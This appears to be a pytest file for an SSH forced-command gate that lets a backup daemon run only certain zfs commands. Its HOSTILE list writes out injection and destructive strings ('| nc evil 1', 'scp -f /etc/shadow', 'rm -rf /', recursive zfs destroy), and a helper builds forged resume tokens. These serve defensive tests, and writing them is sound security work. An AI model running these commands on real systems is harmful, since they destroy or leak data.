"""zbackupd-gate: its configuration, its decision, its effects, and the one shared grammar.

The fuzz at the end checks the gate against an oracle written here from scratch (literal
argv templates, its own name rules, its own resume-token reader), not against
``REMOTE_SHAPES``: a bug in the shared table cannot hide behind itself.
"""

from __future__ import annotations

import json
import random
import re
import shlex
import shutil
import struct
import subprocess
import sys
import syslog
import zipapp
import zlib
from collections.abc import Mapping, Sequence
from datetime import UTC, datetime
from pathlib import Path
from typing import NoReturn

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.integration.stub_zfs import guid_of
from zbackupd.core.model import Encryption
from zbackupd.server import gate, gate_config
from zbackupd.zfs import argv as zargv
from zbackupd.zfs import names

REPO = Path(__file__).resolve().parents[2]
EXAMPLE = REPO / "docs" / "examples" / "gate.toml"
ROOTS = ("tank/data", "backup/hosts")
CONFIG = gate.GateConfig(roots=ROOTS)
SNAP = "tank/data@zbackupd_20250101T000000Z"
SNAP2 = "tank/data@zbackupd_20250102T000000Z"
MARK = "tank/data#zbackupd_disk1"


def encode_token(
    toname: str,
    *,
    raw: bool,
    toguid: int | None = None,
    fromguid: int | None = None,
    flags: Sequence[str] = (),
    arrays: Mapping[str, Sequence[int]] | None = None,
) -> str:
    """A receive resume token encoded the way the kernel does (native nvlist, zlib,
    fletcher4 word 0), written independently of ``zbackupd.zfs.argv``.

    ``toguid`` defaults to the stub's guid of ``toname``; ``flags`` adds boolean pairs
    (``savedok``); ``arrays`` adds uint64 arrays (``redact_snaps``)."""

    def pair(name: str, kind: int, value: bytes, count: int | None = None) -> bytes:
        name_bytes = name.encode() + b"\0"
        elements = (1 if value else 0) if count is None else count
        head = struct.pack("<hhii", len(name_bytes), 0, elements, kind) + name_bytes
        head += b"\0" * (-(len(head) + 4) % 8)
        body = value + b"\0" * (-len(value) % 8)
        return struct.pack("<i", 4 + len(head) + len(body)) + head + body

    guid = guid_of(toname) if toguid is None else toguid
    pairs = [pair("object", 8, struct.pack("<Q", 1))]
    if fromguid is not None:
        pairs.append(pair("fromguid", 8, struct.pack("<Q", fromguid)))
    pairs.append(pair("toguid", 8, struct.pack("<Q", guid)))
    for flag in (*(("rawok",) if raw else ()), *flags):
        pairs.append(pair(flag, 1, b""))
    for name, values in (arrays or {}).items():
        pairs.append(pair(name, 17, struct.pack(f"<{len(values)}Q", *values), len(values)))
    pairs.append(pair("toname", 9, toname.encode() + b"\0"))
    packed = b"\0\1\0\0" + struct.pack("<iI", 0, 1) + b"".join(pairs) + b"\0" * 8
    payload = zlib.compress(packed)
    usable = len(payload) // 4 * 4
    checksum = sum(struct.unpack(f"<{usable // 4}I", payload[:usable])) % 2**64
    return f"1-{checksum:x}-{len(packed):x}-{payload.hex()}"


class FakeZfs:
    """The gate's lookup seam: answers its read-only zfs queries from dicts, records them.

    ``encrypted``: datasets whose ``encryption`` is not ``off``; ``guids``: snapshot →
    guid (default ``guid_of``); ``versions``: dataset → guids of its snapshots and
    bookmarks (default: those of ``zbackupd_20250101T000000Z`` and ``#zbackupd_disk1``).
    """

    def __init__(
        self,
        *,
        encrypted: Sequence[str] = (),
        guids: Mapping[str, int] | None = None,
        versions: Mapping[str, Sequence[int]] | None = None,
        encrypt_everything: bool = False,
    ) -> None:
        self.encrypted = frozenset(encrypted)
        self.encrypt_everything = encrypt_everything
        self.guids = dict(guids or {})
        self.versions = dict(versions or {})
        self.calls: list[tuple[str, ...]] = []

    def __call__(self, argv: tuple[str, ...]) -> str:
        self.calls.append(argv)
        match argv[1:]:
            case ("get", "-H", "-o", "value", "encryption", dataset):
                encrypted = self.encrypt_everything or dataset in self.encrypted
                return ("aes-256-gcm" if encrypted else "off") + "\n"
            case ("get", "-H", "-p", "-o", "value", "guid", snapshot):
                return f"{self.guids.get(snapshot, guid_of(snapshot))}\n"
            case ("list", "-H", "-p", "-o", "guid", "-t", "snapshot,bookmark", "-d", "1", ds):
                default = [
                    guid_of(f"{ds}@zbackupd_20250101T000000Z"),
                    guid_of(f"{ds}#zbackupd_disk1"),
                ]
                return "".join(f"{guid}\n" for guid in self.versions.get(ds, default))
        raise gate.LookupFailed(argv, "the fake knows no such query")


PLAIN_SERVER = FakeZfs()
RAW_TOKEN = encode_token(SNAP, raw=True)
PLAIN_TOKEN = encode_token(SNAP, raw=False)


# -- configuration -------------------------------------------------------------------


def test_the_documented_example_validates() -> None:
    config = gate.load_config(str(EXAMPLE))
    assert config.roots
    assert config.zfs == "/usr/sbin/zfs"
    assert config.prefix == names.DEFAULT_PREFIX


def test_a_minimal_config_takes_the_defaults() -> None:
    config = gate_config.parse_config('roots = ["tank/data"]\n', "gate.toml")
    assert config == gate.GateConfig(
        roots=("tank/data",),
        allow_snapshot=True,
        allow_destroy=True,
        require_raw=False,
        prefix="zbackupd",
        zfs="zfs",
    )


def test_every_key_is_read() -> None:
    text = (
        'roots = ["tank/a", "pool2"]\nallow_snapshot = false\nallow_destroy = false\n'
        'require_raw = true\nprefix = "site"\nzfs = "/opt/zfs/bin/zfs"\n'
    )
    assert gate_config.parse_config(text, "g.toml") == gate.GateConfig(
        roots=("tank/a", "pool2"),
        allow_snapshot=False,
        allow_destroy=False,
        require_raw=True,
        prefix="site",
        zfs="/opt/zfs/bin/zfs",
    )


@pytest.mark.parametrize(
    ("text", "key", "why"),
    [
        ('roots = ["tank"]\nallow_send_R = true\n', "allow_send_R", "unknown key"),
        ('roots = ["tank"]\n[extra]\nx = 1\n', "extra", "unknown key"),
        ("allow_snapshot = true\n", "roots", "required"),
        ("roots = []\n", "roots", "non-empty"),
        ('roots = "tank"\n', "roots", "non-empty list"),
        ("roots = [1]\n", "roots[0]", "string"),
        ('roots = ["tank/../etc"]\n', "roots[0]", "reserved"),
        ('roots = ["-o/x"]\n', "roots[0]", "pool"),
        ('roots = ["tank@s"]\n', "roots[0]", "'@'"),
        ('roots = ["tank"]\nallow_destroy = "yes"\n', "allow_destroy", "true or false"),
        ('roots = ["tank"]\nprefix = "bad prefix"\n', "prefix", "prefix"),
        ('roots = ["tank"]\nzfs = "bin/zfs"\n', "zfs", "absolute path"),
        ('roots = ["tank"]\nzfs = "/usr/../tmp/zfs"\n', "zfs", "absolute path"),
        ('roots = ["tank"]\nzfs = "zfs; reboot"\n', "zfs", "absolute path"),
        ('roots = ["tank"]\nzfs = 3\n', "zfs", "string"),
        ("roots = [\n", "", "not valid TOML"),
    ],
)
def test_bad_configs_are_refused_naming_key_and_file(text: str, key: str, why: str) -> None:
    with pytest.raises(gate.GateConfigError) as caught:
        gate_config.parse_config(text, "/etc/zbackupd/gate.toml")
    assert caught.value.path == "/etc/zbackupd/gate.toml"
    assert "/etc/zbackupd/gate.toml" in str(caught.value)
    assert any(k == key and why in reason for k, reason in caught.value.problems), (
        caught.value.problems
    )
    assert caught.value.transient is False


def test_every_problem_is_listed_at_once() -> None:
    with pytest.raises(gate.GateConfigError) as caught:
        gate_config.parse_config('bogus = 1\nprefix = ""\nzfs = "x/y"\n', "g.toml")
    assert {key for key, _ in caught.value.problems} == {"bogus", "roots", "prefix", "zfs"}


def test_a_missing_config_file_is_a_config_error(tmp_path: Path) -> None:
    missing = tmp_path / "nope.toml"
    with pytest.raises(gate.GateConfigError) as caught:
        gate.load_config(str(missing))
    assert caught.value.path == str(missing)
    assert "No such file" in str(caught.value)


def test_config_path_comes_from_the_forced_command_only() -> None:
    assert gate.config_path([]) == gate.DEFAULT_CONFIG_PATH
    assert gate.config_path(["--config", "/srv/g.toml"]) == "/srv/g.toml"
    with pytest.raises(gate.GateConfigError):
        gate.config_path(["--config", "/srv/g.toml", "--debug"])


def test_config_path_takes_the_equals_form_too() -> None:
    assert gate.config_path(["--config=/srv/g.toml"]) == "/srv/g.toml"
    for bad in (["--config"], ["--config", "/a", "--config", "/b"], ["/srv/g.toml"], ["-c", "x"]):
        with pytest.raises(gate.GateConfigError):
            gate.config_path(bad)


def test_check_config_says_ok(config_file: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert gate.main(["--check-config", str(config_file)]) == 0
    assert capsys.readouterr().out == f"{config_file}: ok\n"


def test_check_config_prints_every_problem_with_file_and_key(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    bad = tmp_path / "gate.toml"
    bad.write_text('roots = ["tank", 3]\nallow_destroy = "yes"\nbogus = 1\n')
    assert gate.main(["--check-config", str(bad)]) == gate.EXIT_BAD_CONFIG
    lines = capsys.readouterr().out.splitlines()
    assert len(lines) == 3
    assert all(line.startswith(f"{bad}: ") for line in lines)
    assert {line.split(": ")[1] for line in lines} == {"roots[1]", "allow_destroy", "bogus"}


def test_check_config_of_a_missing_file(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    missing = tmp_path / "nope.toml"
    assert gate.main(["--check-config", str(missing)]) == gate.EXIT_BAD_CONFIG
    assert capsys.readouterr().out == f"{missing}: No such file or directory\n"


def test_check_config_needs_exactly_one_file(capsys: pytest.CaptureFixture[str]) -> None:
    assert gate.main(["--check-config"]) == gate.EXIT_BAD_CONFIG
    assert "--check-config" in capsys.readouterr().err


# -- the decision ----------------------------------------------------------------------


def refused(
    command: str | None, config: gate.GateConfig = CONFIG, zfs: FakeZfs = PLAIN_SERVER
) -> str:
    decision = gate.decide(command, config, zfs)
    assert isinstance(decision, gate.Refused), decision
    return decision.reason


def accepted(
    command: str, config: gate.GateConfig = CONFIG, zfs: FakeZfs = PLAIN_SERVER
) -> zargv.RemoteCommand:
    decision = gate.decide(command, config, zfs)
    assert isinstance(decision, gate.Accepted), decision
    return decision.command


def test_no_command_means_an_interactive_login_and_is_refused() -> None:
    assert "interactive" in refused(None)
    assert "empty" in refused("")
    assert "empty" in refused("   ")


def test_unsplittable_lines_are_refused() -> None:
    assert "split" in refused("zfs send -w 'tank/data@s")
    assert "split" in refused('zfs send -w "tank/data@s')
    assert "split" in refused("zfs send -w tank/data@s\\")


def test_the_daemons_quoting_reaches_zfs_word_for_word() -> None:
    built = zargv.send_incremental(MARK, SNAP, Encryption.ENCRYPTED)
    command = accepted(shlex.join(built))
    assert command.argv == built
    assert command.kind is zargv.RemoteKind.SEND
    assert command.datasets == ("tank/data",)


HOSTILE = [
    # shell syntax: never interpreted, so it can only turn into bad words
    f"zfs send -w {SNAP}; reboot",
    f"zfs send -w {SNAP};reboot",
    f"zfs send -w {SNAP} | nc evil 1",
    f"zfs send -w {SNAP}|nc evil 1",
    f"zfs send -w {SNAP} && reboot",
    f"zfs send -w {SNAP}&",
    f"zfs send -w $(echo {SNAP})",
    f"zfs send -w `echo {SNAP}`",
    f"zfs send -w '{SNAP}$(reboot)'",
    f"zfs send -w {SNAP}\nreboot",
    f"zfs send -w {SNAP} > /etc/passwd",
    f"zfs send -w {SNAP} 2>/tmp/x",
    f"zfs send -w {SNAP} < /dev/zero",
    f"zfs send -w {SNAP} # comment",
    f"zfs send -w {SNAP}*",
    f"zfs send -w ${{HOME}}{SNAP}",
    f"zfs send -w '{SNAP} '",
    # other binaries, absolute paths, wrappers
    "sh -c 'zfs list'",
    "bash",
    "/sbin/zfs list -H -p -t snapshot -o name,guid,createtxg,creation -s createtxg -r tank/data",
    "/usr/sbin/zfs send -w " + SNAP,
    "env zfs send -w " + SNAP,
    "sudo zfs send -w " + SNAP,
    "zpool list",
    "zpool export tank",
    "zpool destroy tank",
    "zdb -d tank",
    "scp -f /etc/shadow",
    "rsync --server -e.Lsf . /",
    "internal-sftp",
    "sftp",
    # dangerous zfs subcommands
    "zfs destroy -r " + SNAP,
    "zfs destroy -R " + SNAP,
    "zfs destroy -r tank/data",
    "zfs destroy tank/data",
    "zfs destroy -d " + SNAP,
    "zfs destroy -f " + SNAP,
    "zfs destroy tank/data@manual",
    "zfs destroy tank/data@zbackupd_20250101T000000Z,keepme",
    "zfs destroy tank/data@zbackupd_20250101T000000Z%zbackupd_20250102T000000Z",
    "zfs destroy tank/data@autosnap_2025-01-01_00:00:00_daily",
    "zfs destroy tank/data#manual",
    "zfs destroy tank/other#zbackupd_disk1",
    "zfs receive tank/data",
    "zfs receive -F tank/data",
    "zfs recv -A tank/data",
    "zfs set readonly=off tank/data",
    "zfs set mountpoint=/ tank/data",
    "zfs inherit -r mountpoint tank/data",
    "zfs allow everyone destroy tank",
    "zfs unallow zbackupd tank",
    "zfs rollback -r " + SNAP,
    "zfs rename " + SNAP + " tank/data@x",
    "zfs mount -a",
    "zfs load-key -a",
    "zfs unload-key tank/data",
    "zfs change-key tank/data",
    "zfs promote tank/data",
    "zfs clone " + SNAP + " tank/data/clone",
    "zfs create tank/data/x",
    "zfs upgrade -a",
    "zfs program tank script.lua",
    "zfs get all tank/data",
    "zfs get -H -p -o name,property,value all tank/data",
    "zfs diff " + SNAP,
    # sends that would leak or widen
    "zfs send -R -w " + SNAP,
    "zfs send -w -R " + SNAP,
    "zfs send -e " + SNAP,
    "zfs send -p -w " + SNAP,
    "zfs send -D -w " + SNAP,
    "zfs send -w tank/other@s",
    "zfs send -w tank/database@zbackupd_20250101T000000Z",
    "zfs send -w tank@s",
    "zfs send -w -i tank/home@s " + SNAP,
    "zfs send -w -I tank/data#zbackupd_disk1 " + SNAP,
    "zfs send -w -t " + encode_token("tank/secret@s", raw=True),
    "zfs send -w " + SNAP + " " + SNAP2,
    "zfs send -t $(reboot)",
    "zfs send -t " + RAW_TOKEN[:-2] + "00",
    "zfs send -b " + SNAP,
    "zfs send --raw " + SNAP,
    "zfs send -w -- " + SNAP,
    "zfs send -- -w " + SNAP,
    "zfs send -nvP -w -o name " + SNAP,
    # option injection in value places
    "zfs list -H -p -t snapshot -o name,guid,createtxg,creation -s createtxg -r -o all tank/data",
    "zfs list -H -p -t snapshot -o name,guid,createtxg,creation -s createtxg -r -- tank/data",
    "zfs list -H -p -t all -o name,guid,createtxg,creation -s createtxg -r tank/data",
    "zfs list -H -p -t snapshot -o name,guid,createtxg,creation,keylocation -s createtxg -r tank",
    "zfs list -H -p -t snapshot -o name,guid,createtxg,creation -s createtxg -r tank",
    "zfs list -r tank/data",
    "zfs hold -r zbackupd_disk1 " + SNAP,
    "zfs hold -- zbackupd_disk1 " + SNAP,
    "zfs hold keep " + SNAP,
    "zfs release -r zbackupd_disk1 " + SNAP,
    "zfs release zbackupd_disk1 tank/other@s",
    "zfs snapshot -o com.x:y=z " + SNAP,
    "zfs snapshot tank/data@manual",
    "zfs snapshot tank/other@zbackupd_20250101T000000Z",
    "zfs bookmark " + SNAP + " tank/data#manual",
    "zfs bookmark " + SNAP + " tank/other#zbackupd_disk1",
    # path traversal-ish and odd names
    "zfs send -w tank/data/../other@zbackupd_20250101T000000Z",
    "zfs send -w tank/data/./x@s",
    "zfs send -w ../tank/data@s",
    "zfs send -w /tank/data@s",
    "zfs send -w tank/data/@s",
    "zfs send -w tank//data@s",
    "zfs send -w tank/data@@s",
    "zfs send -w 'tank/data@s 2'",
    "zfs send -w tank/data@s\u00a0",
    "zfs send -w tank/dat\u0430@s",
    "zfs holds -H -p tank/data@s,t",
    "zfs snapshot tank/data@zbackupd_20250101T000000Z\x00",
    "zfs snapshot 'tank/data@zbackupd_20250101T000000Z\n'",
    "zfs snapshot tank/data@zbackupd_20251301T000000Z",
]


@pytest.mark.parametrize("command", HOSTILE)
def test_hostile_commands_are_refused(command: str) -> None:
    refused(command)


@pytest.mark.parametrize(
    ("config", "command", "why"),
    [
        (gate.GateConfig(roots=ROOTS, allow_snapshot=False), f"zfs snapshot {SNAP}", "snapshot"),
        (gate.GateConfig(roots=ROOTS, allow_destroy=False), f"zfs destroy {MARK}", "destroy"),
        (
            gate.GateConfig(roots=ROOTS, allow_destroy=False),
            "zfs destroy tank/data@zbackupd_20250101T000000Z",
            "destroy",
        ),
        (gate.GateConfig(roots=ROOTS, require_raw=True), f"zfs send -L -c {SNAP}", "raw"),
        (
            gate.GateConfig(roots=ROOTS, require_raw=True),
            f"zfs send -nvP -L -c -i {MARK} {SNAP}",
            "raw",
        ),
        (gate.GateConfig(roots=ROOTS, require_raw=True), f"zfs send -t {PLAIN_TOKEN}", "non-raw"),
    ],
)
def test_the_configuration_narrows_what_is_allowed(
    config: gate.GateConfig, command: str, why: str
) -> None:
    assert why in refused(command, config)
    assert isinstance(gate.decide(command, CONFIG, PLAIN_SERVER), gate.Accepted)


def test_raw_sends_pass_when_raw_is_required() -> None:
    config = gate.GateConfig(roots=ROOTS, require_raw=True)
    accepted(f"zfs send -w -i {MARK} {SNAP}", config)
    accepted(f"zfs send -nvP -w {SNAP}", config)
    accepted(f"zfs send -t {RAW_TOKEN}", config)


def test_a_configured_prefix_replaces_the_default() -> None:
    config = gate.GateConfig(roots=ROOTS, prefix="site")
    accepted("zfs snapshot tank/data@site_20250101T000000Z", config)
    refused(f"zfs snapshot {SNAP}", config)


# -- what the server says: encryption and resume tokens (the gate's own lookups) ------

SECURE = FakeZfs(encrypted=["tank/data"])


@pytest.mark.parametrize(
    "command",
    [
        f"zfs send -L -c {SNAP}",
        f"zfs send -nvP -L -c {SNAP}",
        f"zfs send -L -c -i {MARK} {SNAP2}",
        f"zfs send -L -c -I {SNAP} {SNAP2}",
        f"zfs send -nvP -L -c -i {SNAP} {SNAP2}",
    ],
)
def test_the_plaintext_send_of_an_encrypted_dataset_is_refused(command: str) -> None:
    """With the key loaded, zfs would send it decrypted: only raw (-w) may leave."""
    zfs = FakeZfs(encrypted=["tank/data"])
    assert "encrypted" in refused(command, zfs=zfs)
    assert zfs.calls == [("zfs", "get", "-H", "-o", "value", "encryption", "tank/data")]
    accepted(command)  # the same send of an unencrypted dataset is fine


def test_a_raw_send_of_an_encrypted_dataset_needs_no_lookup() -> None:
    zfs = FakeZfs(encrypted=["tank/data"])
    accepted(f"zfs send -w -i {MARK} {SNAP}", zfs=zfs)
    accepted(f"zfs send -nvP -w {SNAP}", zfs=zfs)
    assert zfs.calls == []


def test_a_plaintext_send_is_refused_when_the_encryption_lookup_fails() -> None:
    zfs = FakeZfs()

    def broken(argv: tuple[str, ...]) -> str:
        zfs.calls.append(argv)
        raise gate.LookupFailed(argv, "exit 1: dataset does not exist")

    decision = gate.decide(f"zfs send -L -c {SNAP}", CONFIG, broken)
    assert isinstance(decision, gate.Refused)
    assert "cannot check" in decision.reason
    assert "does not exist" in decision.reason


def test_the_encryption_lookup_uses_the_configured_zfs() -> None:
    zfs = FakeZfs()
    config = gate.GateConfig(roots=ROOTS, zfs="/opt/zfs/sbin/zfs")
    accepted(f"zfs send -L -c {SNAP}", config, zfs)
    assert [call[0] for call in zfs.calls] == ["/opt/zfs/sbin/zfs"]


def test_a_forged_token_with_an_out_of_root_toguid_is_refused_without_running_send() -> None:
    """zfs resolves a token by GUID, walking up from toname to the pool: a token naming
    an in-root snapshot but carrying another dataset's guid would send that dataset."""
    outside = guid_of("tank/secret@daily")
    zfs = FakeZfs()
    for raw in (True, False):
        token = encode_token(SNAP, raw=raw, toguid=outside)
        assert "guid" in refused(f"zfs send -t {token}", zfs=zfs)
        assert "guid" in refused(f"zfs send -nvP -t {token}", zfs=zfs)
    asked = {call[1:] for call in zfs.calls}
    assert asked == {("get", "-H", "-p", "-o", "value", "guid", SNAP)}  # by name, no walk


def test_a_made_up_guid_never_reaches_zfs_send(config_file: Path) -> None:
    token = encode_token(SNAP, raw=True, toguid=123456789)
    zfs = FakeZfs()
    effects = Effects()
    status = gate.run(
        ["--config", str(config_file)],
        {"SSH_ORIGINAL_COMMAND": f"zfs send -t {token}"},
        log=effects.log,
        stderr=effects.write,
        exec_zfs=fake_exec,
        lookup=zfs,
    )
    assert status == gate.EXIT_REFUSED
    assert all(call[1] != "send" for call in zfs.calls)


def test_a_token_from_a_foreign_incremental_source_is_refused() -> None:
    elsewhere = guid_of("tank/secret@daily")
    token = encode_token(SNAP2, raw=True, fromguid=elsewhere)
    zfs = FakeZfs()
    assert "incremental source" in refused(f"zfs send -t {token}", zfs=zfs)
    assert (
        "list",
        "-H",
        "-p",
        "-o",
        "guid",
        "-t",
        "snapshot,bookmark",
        "-d",
        "1",
        "tank/data",
    ) in {call[1:] for call in zfs.calls}


def test_a_token_from_a_snapshot_or_bookmark_of_the_same_dataset_is_accepted() -> None:
    for source in (SNAP, MARK):
        token = encode_token(SNAP2, raw=True, fromguid=guid_of(source))
        accepted(f"zfs send -t {token}")
        accepted(f"zfs send -nvP -t {token}")


def test_a_savedok_token_is_refused() -> None:
    """A saved-state token skips the guid lookup in libzfs: zfs trusts its toname."""
    token = encode_token(SNAP, raw=True, flags=["savedok"])
    assert "savedok" in refused(f"zfs send -t {token}")


@pytest.mark.parametrize("field", ["redact_snaps", "book_redact_snaps"])
def test_a_token_with_redaction_fields_is_refused(field: str) -> None:
    token = encode_token(SNAP, raw=True, arrays={field: [guid_of(SNAP2), 5]})
    assert "redact" in refused(f"zfs send -t {token}")


def test_a_non_raw_resume_of_an_encrypted_dataset_is_refused() -> None:
    zfs = FakeZfs(encrypted=["tank/data"])
    assert "encrypted" in refused(f"zfs send -t {PLAIN_TOKEN}", zfs=zfs)
    assert "encrypted" in refused(f"zfs send -nvP -t {PLAIN_TOKEN}", zfs=zfs)
    accepted(f"zfs send -t {RAW_TOKEN}", zfs=zfs)
    accepted(f"zfs send -t {PLAIN_TOKEN}")  # unencrypted: a plain resume is fine


def test_a_token_for_a_snapshot_that_is_gone_is_refused() -> None:
    token = encode_token("tank/data@zbackupd_20240101T000000Z", raw=True)

    def missing(argv: tuple[str, ...]) -> str:
        raise gate.LookupFailed(argv, "exit 1: dataset does not exist")

    decision = gate.decide(f"zfs send -t {token}", CONFIG, missing)
    assert isinstance(decision, gate.Refused)
    assert "does not exist" in decision.reason


@pytest.mark.parametrize(
    "props",
    ["keylocation", "origin", "mountpoint", "keyformat", "encryptionroot", "written",
     "receive_resume_token", "keystatus", "guid", "all", "encryption,keylocation"],
)  # fmt: skip
def test_a_disallowed_property_is_refused(props: str) -> None:
    """The daemon reads no property of the server with zfs get (it lists what it needs
    with zfs list -o): keylocation (key file paths, URLs), origin (names outside the
    roots), mountpoint and the rest are nobody's business."""
    refused(f"zfs get -H -p -o name,property,value {props} tank/data")
    refused(f"zfs get -H -o value {props} tank/data")


# -- effects: run() with exec, log and stderr injected ---------------------------------


class Executed(Exception):
    """Raised by the fake exec: the point where the real gate would become zfs."""

    def __init__(self, program: str, argv: Sequence[str], env: Mapping[str, str]) -> None:
        super().__init__(program)
        self.program = program
        self.argv = tuple(argv)
        self.env = dict(env)


def fake_exec(program: str, argv: Sequence[str], env: Mapping[str, str]) -> NoReturn:
    raise Executed(program, argv, env)


class Effects:
    def __init__(self) -> None:
        self.logs: list[tuple[int, str]] = []
        self.stderr: list[str] = []

    def log(self, priority: int, message: str) -> None:
        self.logs.append((priority, message))

    def write(self, text: str) -> int:
        self.stderr.append(text)
        return len(text)


@pytest.fixture
def config_file(tmp_path: Path) -> Path:
    path = tmp_path / "gate.toml"
    path.write_text('roots = ["tank/data", "backup/hosts"]\nzfs = "/usr/sbin/zfs"\n')
    return path


def run_gate(config_file: Path, command: str | None, **environ: str) -> tuple[int, Effects]:
    effects = Effects()
    env = {"SSH_CONNECTION": "192.0.2.7 50000 192.0.2.1 22", **environ}
    if command is not None:
        env["SSH_ORIGINAL_COMMAND"] = command
    status = gate.run(
        ["--config", str(config_file)],
        env,
        log=effects.log,
        stderr=effects.write,
        exec_zfs=fake_exec,
        lookup=PLAIN_SERVER,
    )
    return status, effects


def test_an_accepted_command_becomes_exactly_that_zfs_argv(config_file: Path) -> None:
    built = zargv.send_incremental(MARK, SNAP, Encryption.PLAIN)
    with pytest.raises(Executed) as caught:
        run_gate(config_file, shlex.join(built), PATH="/home/evil/bin", LD_PRELOAD="/x.so")
    assert caught.value.program == "/usr/sbin/zfs"
    assert caught.value.argv == built
    assert caught.value.env == {"PATH": gate.SAFE_PATH, "LC_ALL": "C"}


def test_an_accepted_command_is_logged_at_info(config_file: Path) -> None:
    effects = Effects()
    with pytest.raises(Executed):
        gate.run(
            ["--config", str(config_file)],
            {"SSH_ORIGINAL_COMMAND": f"zfs holds -H -p {SNAP}", "SSH_CONNECTION": "192.0.2.7 1"},
            log=effects.log,
            stderr=effects.write,
            exec_zfs=fake_exec,
        )
    ((priority, line),) = effects.logs
    assert priority == syslog.LOG_INFO
    assert line.startswith("accepted from 192.0.2.7: holds (holds) datasets=tank/data")
    assert SNAP in line
    assert effects.stderr == []


def test_a_refused_command_is_reported_logged_and_never_run(config_file: Path) -> None:
    hostile = "zfs destroy -r tank/data\nrm -rf / " + "x" * 5000
    status, effects = run_gate(config_file, hostile)
    assert status == gate.EXIT_REFUSED
    (message,) = effects.stderr
    assert message.startswith("zbackupd-gate: refused: ")
    assert message.count("\n") == 1
    assert message.endswith("\n")
    ((priority, line),) = effects.logs
    assert priority == syslog.LOG_WARNING
    assert line.startswith("refused from 192.0.2.7: ")
    assert "\n" not in line
    assert "zfs destroy -r tank/data\\nrm -rf /" in line  # repr: the newline as backslash-n
    assert len(line) < 1000
    assert "...(truncated)" in line


def test_an_interactive_login_is_refused(config_file: Path) -> None:
    status, effects = run_gate(config_file, None)
    assert status == gate.EXIT_REFUSED
    assert "interactive" in effects.stderr[0]
    assert "command=(none)" in effects.logs[0][1]


def test_a_broken_config_refuses_everything(tmp_path: Path) -> None:
    bad = tmp_path / "gate.toml"
    bad.write_text('roots = ["tank"]\nallow_everything = true\n')
    status, effects = run_gate(bad, f"zfs send -w {SNAP}")
    assert status == gate.EXIT_BAD_CONFIG
    assert "misconfigured" in effects.stderr[0]
    ((priority, line),) = effects.logs
    assert priority == syslog.LOG_ERR
    assert "allow_everything" in line
    assert str(bad) in line


def test_an_admin_at_a_terminal_is_told_what_is_wrong_with_the_config(tmp_path: Path) -> None:
    """Over SSH (no pty: restrict) the client only learns "misconfigured"; an admin testing
    the gate by hand at a terminal gets the file and key too."""
    bad = tmp_path / "gate.toml"
    bad.write_text('roots = ["tank"]\nallow_everything = true\n')
    for terminal in (False, True):
        effects = Effects()
        status = gate.run(
            ["--config", str(bad)],
            {"SSH_ORIGINAL_COMMAND": f"zfs holds -H -p {SNAP}"},
            log=effects.log,
            stderr=effects.write,
            exec_zfs=fake_exec,
            lookup=PLAIN_SERVER,
            stderr_is_terminal=terminal,
        )
        assert status == gate.EXIT_BAD_CONFIG
        detailed = "allow_everything" in "".join(effects.stderr)
        assert detailed is terminal
        assert "misconfigured" in effects.stderr[0]


def test_a_missing_zfs_is_reported(tmp_path: Path) -> None:
    config = tmp_path / "gate.toml"
    config.write_text(f'roots = ["tank/data"]\nzfs = "{tmp_path}/no-such-zfs"\n')
    effects = Effects()
    status = gate.run(
        ["--config", str(config)],
        {"SSH_ORIGINAL_COMMAND": f"zfs holds -H -p {SNAP}"},
        log=effects.log,
        stderr=effects.write,
    )
    assert status == gate.EXIT_NO_ZFS
    assert "no-such-zfs" in effects.stderr[0]
    assert effects.logs[-1][0] == syslog.LOG_ERR


def test_a_bare_zfs_name_is_looked_up_in_the_safe_path_only(tmp_path: Path) -> None:
    """A ``zfs`` planted in the login's PATH is never the one that runs."""
    planted = tmp_path / "bin"
    planted.mkdir()
    for name in ("zfs", "echo"):
        (planted / name).write_text("#!/bin/sh\necho planted\n")
        (planted / name).chmod(0o755)

    def gate_running(program: str) -> subprocess.CompletedProcess[str]:
        config = tmp_path / f"{program}.toml"
        config.write_text(f'roots = ["tank/data"]\nzfs = "{program}"\n')
        return subprocess.run(
            [sys.executable, "-m", "zbackupd.server.gate", "--config", str(config)],
            env={"PATH": str(planted), "SSH_ORIGINAL_COMMAND": f"zfs holds -H -p {SNAP}"},
            capture_output=True,
            text=True,
            check=False,
            cwd=REPO,
        )

    echoed = gate_running("echo")  # /usr/bin/echo or /bin/echo, from the safe PATH
    assert (echoed.returncode, echoed.stdout) == (0, f"holds -H -p {SNAP}\n")
    real_or_none = gate_running("zfs")  # 127 here (no ZFS); on a ZFS host, the real one
    assert "planted" not in real_or_none.stdout
    assert real_or_none.returncode != 0


# -- standard library only ------------------------------------------------------------


#: What a server needs of the package to run the gate (docs/server-setup.md lists them).
STANDALONE_FILES = (
    "zbackupd/__init__.py",
    "zbackupd/errors.py",
    "zbackupd/core/__init__.py",
    "zbackupd/core/values.py",
    "zbackupd/server/__init__.py",
    "zbackupd/server/gate.py",
    "zbackupd/server/gate_config.py",
    "zbackupd/zfs/__init__.py",
    "zbackupd/zfs/names.py",
    "zbackupd/zfs/argv.py",
)


def test_importing_the_gate_pulls_in_nothing_but_the_standard_library() -> None:
    probe = (
        "import json, sys\n"
        f"sys.path.insert(0, {str(REPO)!r})\n"
        "before = set(sys.modules)\n"
        "import zbackupd.server.gate\n"
        "print(json.dumps(sorted(set(sys.modules) - before)))\n"
    )
    # -S: no site-packages at all; -I: no PYTHONPATH, no user site.
    output = subprocess.run(
        [sys.executable, "-S", "-I", "-c", probe], check=True, capture_output=True, text=True
    ).stdout
    loaded = json.loads(output)
    ours = {name for name in loaded if name.split(".")[0] == "zbackupd"}
    assert ours == {
        name.removesuffix(".py").removesuffix("/__init__").replace("/", ".")
        for name in STANDALONE_FILES
    }
    foreign = [
        name
        for name in loaded
        if name.split(".")[0] not in sys.stdlib_module_names and name not in ours
    ]
    assert foreign == []


def test_the_gate_runs_from_a_standalone_zipapp_with_no_site_packages(tmp_path: Path) -> None:
    """The install path for a server with nothing but python3 (docs/server-setup.md)."""
    source = tmp_path / "src"
    for name in STANDALONE_FILES:
        (source / name).parent.mkdir(parents=True, exist_ok=True)
        shutil.copy(REPO / name, source / name)
    (source / "__main__.py").write_text(
        "import sys\nfrom zbackupd.server.gate import main\nsys.exit(main())\n"
    )
    archive = tmp_path / "zbackupd-gate.pyz"
    zipapp.create_archive(source, archive)
    config = tmp_path / "gate.toml"
